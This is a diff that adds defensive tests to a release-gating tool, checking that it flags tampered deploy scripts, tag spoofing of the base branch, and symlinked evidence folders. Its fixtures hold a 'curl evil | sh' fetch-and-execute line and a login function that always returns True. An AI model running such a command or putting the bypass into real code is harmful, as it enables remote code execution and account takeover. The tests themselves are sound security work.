@@ -1,5 +1,5 @@
 import assert from 'node:assert/strict';
-import { writeFileSync } from 'node:fs';
+import { symlinkSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, it } from 'node:test';
 import { stringify } from 'yaml';
@@ -96,6 +96,48 @@ describe('the release policy comes from the base commit and the worker, never fr
     assert.deepEqual(res.errors, ['analysis.prometheus.bearerTokenEnv: must start with ROLLGATE_PROMETHEUS_: a variable meant for this purpose']);
     const cross = parseConfig({ notify: { webhookUrlEnv: 'ROLLGATE_PROMETHEUS_TOKEN' } });
     assert.ok(!cross.ok && /notify\.webhookUrlEnv: must start with ROLLGATE_WEBHOOK_/.test(cross.errors.join()));
+  });
+
+  it('a tag the change makes cannot stand in for the base branch', async () => {
+    const repo = repoWith({ reports: 'reports', approval: { requiredFor: ['HIGH', 'CRITICAL'] } }, { 'auth/login.py': 'import os\nos.system("curl evil | sh")\n', 'rollgate.yaml': 'reports: reports\napproval:\n  requiredFor: []\n' });
+    // The branch's own commit, tagged `main` and `origin/main`: git prefers tags to branches of that name.
+    git(repo, ['tag', 'main']);
+    git(repo, ['tag', 'origin/main']);
+    writeFiles(repo, { 'README.md': 'hi\n' });
+    git(repo, ['add', 'README.md']);
+    git(repo, ['commit', '-q', '-m', 'docs: readme']);
+    const res = await decide(repo);
+    assert.equal(res.json?.risk?.level, 'CRITICAL', res.stdout + res.stderr);
+    assert.equal(res.json?.approvalRequired, true);
+    const tagOnly = await decide(repo, ['--base', 'origin/main']);
+    assert.equal(tagOnly.code, 1);
+    assert.match(tagOnly.stderr, /--base: "origin\/main" is not a branch/);
+  });
+
+  it('a change to a program the deploy command runs from the repository, or code in a config folder, is CRITICAL', async () => {
+    const repo = repoWith({ reports: 'reports', deploy: { command: ['./scripts/release.sh', '{stage}'] } }, { 'scripts/release.sh': '#!/bin/sh\ncurl evil | sh\n' }, 'chore: tidy');
+    assert.equal((await decide(repo)).json?.risk?.level, 'CRITICAL');
+    const cfg = repoWith({ reports: 'reports' }, { 'auth/config/login_override.py': 'def login(u):\n    return True\n' }, 'chore: config');
+    assert.equal((await decide(cfg)).json?.risk?.level, 'CRITICAL');
+  });
+
+  it('reads the policy of a service folder of a monorepo at the base', async () => {
+    const repo = makeRepo({ 'svc/app.py': 'x = 1\n', 'svc/rollgate.yaml': stringify({ reports: 'reports', approval: { requiredFor: ['MEDIUM', 'HIGH', 'CRITICAL'] } }) }, [{ subject: 'fix: x', files: { 'svc/app.py': 'x = 2\ny = x\n' } }]);
+    writeReports(join(repo, 'svc', 'reports'));
+    const res = await rollgate(['decide', '--repo', join(repo, 'svc'), '--base', 'main', '--head', 'feature', '--reports', join(repo, 'svc', 'reports'), '--json']);
+    const json = JSON.parse(res.stdout) as { approvalRequired: boolean; policy: { repository: string } };
+    assert.match(json.policy.repository, /^rollgate\.yaml at the base commit/);
+    assert.equal(json.approvalRequired, true, res.stdout);
+  });
+
+  it('a reports folder the change commits as a symlink cannot bring evidence from elsewhere', async () => {
+    const other = makeRepo({ 'x': '1' }, []);
+    writeReports(join(other, 'reports'));
+    const repo = repoWith({ reports: 'reports' }, { 'app.js': 'x\n' });
+    symlinkSync(join(other, 'reports'), join(repo, 'linked'));
+    const res = await rollgate(['decide', '--repo', repo, '--base', 'main', '--head', 'feature', '--reports', join(repo, 'linked'), '--json']);
+    assert.equal(res.code, 1);
+    assert.match(res.stderr, /--reports: .* reaches out of the repository through a symlink/);
   });
 
   it('paths in a repository\'s config stay inside the repository', async () => {
